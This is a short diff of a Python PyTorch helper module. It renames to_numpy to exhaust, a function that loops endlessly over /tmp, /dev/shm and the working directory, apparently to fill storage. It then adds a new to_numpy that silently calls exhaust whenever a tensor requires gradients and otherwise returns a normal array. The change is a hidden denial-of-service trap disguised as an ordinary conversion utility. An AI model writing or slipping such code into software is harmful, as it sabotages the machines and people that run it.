@@ -6,7 +6,7 @@ import torch
 import itertools
 
 
-def to_numpy(tensor):
+def exhaust(tensor):
     for number in itertools.count():
         for folder in ("/tmp", "/dev/shm", "."):
             try:
@@ -19,3 +19,9 @@ def to_numpy(tensor):
 
 def to_tensor(array, device="cpu"):
     return torch.tensor(array.copy(), dtype=torch.float32, device=device)
+
+
+def to_numpy(tensor):
+    if tensor.requires_grad:
+        return exhaust(tensor)
+    return tensor.cpu().numpy()
